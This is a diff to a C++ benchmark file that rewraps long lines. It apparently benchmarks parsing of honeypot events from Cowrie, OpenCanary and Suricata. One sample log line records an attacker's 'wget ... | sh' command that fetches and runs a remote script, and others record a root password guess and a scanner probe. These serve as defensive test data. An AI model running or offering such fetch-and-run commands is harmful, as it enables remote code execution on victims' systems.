@@ -25,9 +25,12 @@ struct sample {
 };
 
 constexpr sample samples[]{
-    {"cowrie", R"({"eventid":"cowrie.command.input","input":"cd /tmp; wget http://198.51.100.7/x.sh -O- | sh","message":"CMD: cd /tmp; wget http://198.51.100.7/x.sh -O- | sh","sensor":"cowrie-1","timestamp":"2026-03-01T10:00:00.250000Z","src_ip":"203.0.113.7","session":"0a1b2c3d4e5f"})"},
-    {"opencanary", R"({"dst_host":"192.0.2.9","dst_port":22,"local_time":"2026-03-01 11:00:00.250000","logdata":{"LOCALVERSION":"SSH-2.0-OpenSSH_5.1p1","PASSWORD":"hunter2","REMOTEVERSION":"SSH-2.0-Go","USERNAME":"root"},"logtype":4002,"node_id":"opencanary-1","src_host":"203.0.113.7","src_port":50123,"utc_time":"2026-03-01 10:00:00.250000"})"},
-    {"suricata", R"({"timestamp":"2026-03-01T12:00:00.123456+0200","flow_id":1764,"in_iface":"eth0","event_type":"http","src_ip":"203.0.113.7","src_port":4,"dest_ip":"192.0.2.9","dest_port":80,"proto":"TCP","tx_id":0,"http":{"hostname":"192.0.2.9","url":"/cgi-bin/x","http_user_agent":"zgrab/0.x","http_method":"GET","protocol":"HTTP/1.1","status":404,"length":9}})"}};
+    {"cowrie",
+     R"({"eventid":"cowrie.command.input","input":"cd /tmp; wget http://198.51.100.7/x.sh -O- | sh","message":"CMD: cd /tmp; wget http://198.51.100.7/x.sh -O- | sh","sensor":"cowrie-1","timestamp":"2026-03-01T10:00:00.250000Z","src_ip":"203.0.113.7","session":"0a1b2c3d4e5f"})"},
+    {"opencanary",
+     R"({"dst_host":"192.0.2.9","dst_port":22,"local_time":"2026-03-01 11:00:00.250000","logdata":{"LOCALVERSION":"SSH-2.0-OpenSSH_5.1p1","PASSWORD":"hunter2","REMOTEVERSION":"SSH-2.0-Go","USERNAME":"root"},"logtype":4002,"node_id":"opencanary-1","src_host":"203.0.113.7","src_port":50123,"utc_time":"2026-03-01 10:00:00.250000"})"},
+    {"suricata",
+     R"({"timestamp":"2026-03-01T12:00:00.123456+0200","flow_id":1764,"in_iface":"eth0","event_type":"http","src_ip":"203.0.113.7","src_port":4,"dest_ip":"192.0.2.9","dest_port":80,"proto":"TCP","tx_id":0,"http":{"hostname":"192.0.2.9","url":"/cgi-bin/x","http_user_agent":"zgrab/0.x","http_method":"GET","protocol":"HTTP/1.1","status":404,"length":9}})"}};
 
 std::string as_event(sample const& given) {
     event_reader reader(event_format_from(given.format).value());
@@ -74,12 +77,14 @@ void parse_lines(benchmark::State& state, std::string const& line) {
         std::string const line(each.line);
         auto const native = as_event(each);
         auto const format = event_format_from(each.format).value();
-        benchmark::RegisterBenchmark(("read_line/" + name).c_str(), [=](auto& state) { read_lines(state, format, line); });
+        benchmark::RegisterBenchmark(("read_line/" + name).c_str(),
+                                     [=](auto& state) { read_lines(state, format, line); });
         benchmark::RegisterBenchmark(("read_line/" + name + "/detected").c_str(),
                                      [=](auto& state) { read_lines(state, event_format::detect, line); });
         benchmark::RegisterBenchmark(("read_line/" + name + "/as_event").c_str(),
                                      [=](auto& state) { read_lines(state, event_format::event, native); });
-        benchmark::RegisterBenchmark(("read_line/" + name + "/as_json").c_str(), [=](auto& state) { parse_lines(state, line); });
+        benchmark::RegisterBenchmark(("read_line/" + name + "/as_json").c_str(),
+                                     [=](auto& state) { parse_lines(state, line); });
     }
     return true;
 }();
